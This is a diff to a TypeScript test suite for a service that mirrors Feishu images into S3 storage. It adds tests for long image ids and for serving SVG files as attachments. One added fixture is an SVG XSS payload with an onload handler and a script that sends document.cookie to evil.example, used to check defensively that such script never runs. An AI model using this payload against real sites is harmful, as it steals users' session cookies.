@@ -11,20 +11,16 @@ import { countS3Commands } from '../support/countS3Commands';
 import { lambdaContext } from '../support/lambdaContext';
 import { startMirrorEnvironment, type MirrorEnvironment } from '../support/mirrorEnvironment';
 
-const USER_TOKEN = 'u-3sZ2bVqf8w1XkTq0aYc7LrNn5e9P';
-
 describe('Storage and cache', () => {
   let env: MirrorEnvironment;
   let commands: string[];
   beforeAll(async () => {
     env = await startMirrorEnvironment();
-    env.feishu.addUserToken(USER_TOKEN);
     commands = countS3Commands(containerClients().s3(true));
   });
   afterAll(() => env.close());
   beforeEach(() => {
     env.reset();
-    env.feishu.addUserToken(USER_TOKEN);
     commands.length = 0;
   });
 
@@ -97,19 +93,6 @@ describe('Storage and cache', () => {
     env.setEnv({ WHITEBOARD_MAX_AGE_SECONDS: undefined });
   });
 
-  it("never answers a caller's user-token request from the cache, but refreshes the stored copy", async () => {
-    // Prepare
-    const first = await invoke(baikeImage({ fileToken: 'boxcn_user_only' }, lambdaContext()));
-
-    // Act
-    const second = await invoke(baikeImage({ fileToken: 'boxcn_user_only', userAccessToken: USER_TOKEN }, lambdaContext()));
-
-    // Assess
-    expect(second.cached).toBe(false);
-    expect(env.feishu.requests.filter((r) => r.endpoint === 'baike').map((r) => r.tokenKind)).toEqual(['tenant', 'user']);
-    expect(Date.parse(second.fetchedAt)).toBeGreaterThanOrEqual(Date.parse(first.fetchedAt));
-  });
-
   it('stores the object under its deterministic key with its type, sha256, fetch time and Feishu log id', async () => {
     // Act
     const answer = await invoke(helpdeskFaqImage({ faqId: '6936004780707807251', imageKey: 'img_faq_jpeg_1' }, lambdaContext()));
@@ -141,7 +124,6 @@ describe('Storage and cache', () => {
 
   it.each([
     ['wb_gif_1', 'image/gif', 'gif'],
-    ['wb_svg_1', 'image/svg+xml', 'svg'],
     ['wb_webp_1', 'image/webp', 'webp'],
   ])('serves %s with its type %s and extension .%s', async (id, contentType, extension) => {
     // Act
@@ -152,6 +134,36 @@ describe('Storage and cache', () => {
     expect(answer.contentType).toBe(contentType);
     expect(fetched.headers.get('content-type')).toBe(contentType);
     expect(fetched.headers.get('content-disposition')).toBe(`inline; filename="${id}.${extension}"`);
+  });
+
+  it('serves an SVG, which can hold script, as an attachment, so that opening its URL runs none', async () => {
+    // Prepare
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>';
+    env.feishu.fault({ endpoint: 'whiteboard', kind: { type: 'raw', status: 200, headers: { 'Content-Type': 'image/svg+xml' }, body: svg } });
+
+    // Act
+    const answer = await invoke(whiteboardImage({ whiteboardId: 'wb_svg_script' }, lambdaContext()));
+    const fetched = await fetch(answer.url);
+
+    // Assess
+    expect(answer.contentType).toBe('image/svg+xml');
+    expect(fetched.headers.get('content-type')).toBe('image/svg+xml');
+    expect(fetched.headers.get('content-disposition')).toBe('attachment; filename="wb_svg_script.svg"');
+    expect(await fetched.text()).toBe(svg);
+  });
+
+  it('stores, finds and lists an image whose id is 256 characters long, the most an id may have', async () => {
+    // Prepare
+    const id = `img_v3_${'b'.repeat(249)}`;
+    await imImage({ imageKey: id }, lambdaContext());
+
+    // Act
+    const again = await invoke(imImage({ imageKey: id }, lambdaContext()));
+
+    // Assess
+    expect(again).toMatchObject({ cached: true, key: `feishu/im/${id}` });
+    expect(await env.keys()).toContain(`feishu/im/${id}`);
+    expect((await fetch(again.url)).status).toBe(200);
   });
 
   it('presigns an attachment for the asked lifetime', async () => {
